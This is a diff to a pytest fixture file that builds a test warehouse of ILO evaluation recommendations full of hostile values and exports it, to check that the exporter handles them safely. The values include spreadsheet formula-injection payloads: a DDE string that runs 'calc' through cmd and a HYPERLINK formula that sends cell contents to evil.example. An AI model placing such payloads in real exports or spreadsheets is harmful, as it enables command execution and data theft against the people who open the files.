@@ -124,6 +124,70 @@ def build() -> Callable[..., object]:
     return up_to_date
 
 
+HUGE = "A long plan 👩‍🏫. " * 2700  # more than an Excel cell holds, however one counts
+DANGEROUS = {
+    "recommendation_900501.txt": {
+        "eval_title": "=1+1",
+        "comments": "@SUM(1+9)*cmd|' /C calc'!A0",
+        "action_plan": HUGE,
+        "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    },
+    "recommendation_900502.txt": {
+        "eval_title": "+41 22 799 61 11",
+        "comments": "-2+3",
+        "action_plan": "<r><t>raw</t></r>",
+        "title": "\u202eRecommendation _x0041_ with \x01\x0b\x1f\x7f\ufffe and an emoji 👩‍🏫 and a lone\rreturn",
+    },
+    "recommendation_900503.txt": {
+        "eval_title": "Inspección del trabajo",
+        "comments": 'The labour inspectors, l’inspection & "quotes", commas; semicolons',
+        "action_plan": "In Cambodia, the labour inspectors will visit every quarry.\nIn Kenya, una inspección más.",
+        "title": "La inspección llegó a tiempo; los inspectores también.",
+    },
+}
+
+
+@pytest.fixture(scope="session")
+def dangerous(
+    tmp_path_factory: pytest.TempPathFactory, build: Callable[[Path, Sequence[str | Path], datetime.datetime], object]
+) -> Path:
+    """The folder of a warehouse whose texts would do harm if a program took them for more than texts."""
+    pages = tmp_path_factory.mktemp("dangerous-pages")
+    for name, texts in DANGEROUS.items():
+        number = int(name[15:21])
+        lines = ["Go to ILO main website", "Back to index", "", texts["eval_title"], "", "eval_number:", str(number)]
+        lines += ["location:", "country:", "Cambodia", "region:", "Asia and the Pacific", ""]
+        lines += ["eval_title:", texts["eval_title"], "recommendations:", "date:", "2021-11-05 00:00:00.0"]
+        for key in ("comments", "action_plan", "title"):
+            lines += [f"{key}:", texts[key]]
+        lines += ["management_response:", "Completed", "progress:", "Achieved", "admin_units:", "CO-Kathmandu"]
+        lines += ["url:", f"https://webapps.ilo.org/ievaldiscovery/recommendations/{number}", "", "Skip to top"]
+        (pages / name).write_text("\n".join(lines), encoding="utf-8", newline="")
+    folder = tmp_path_factory.mktemp("dangerous")
+    build(folder, [pages], datetime.datetime(2026, 11, 22, 5, tzinfo=datetime.UTC))
+    return folder
+
+
+def _export(warehouse: Path, to: Path) -> Path:
+    from pipelines.export.exporting import export_all
+    from pipelines.settings import Settings
+
+    export_all(Settings(warehouse=warehouse), to=str(to))
+    return to
+
+
+@pytest.fixture(scope="session")
+def exported(hostile: Built, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The export of the warehouse of tests/pages in all default formats. Only to be read."""
+    return _export(hostile.folder, tmp_path_factory.mktemp("exported"))
+
+
+@pytest.fixture(scope="session")
+def exported_dangerous(dangerous: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The export of the warehouse of dangerous texts in all default formats. Only to be read."""
+    return _export(dangerous, tmp_path_factory.mktemp("exported-dangerous"))
+
+
 @pytest.fixture
 def reference_copy(tmp_path: Path) -> Iterator[Path]:
     """A copy of seeds/reference to do harm to."""
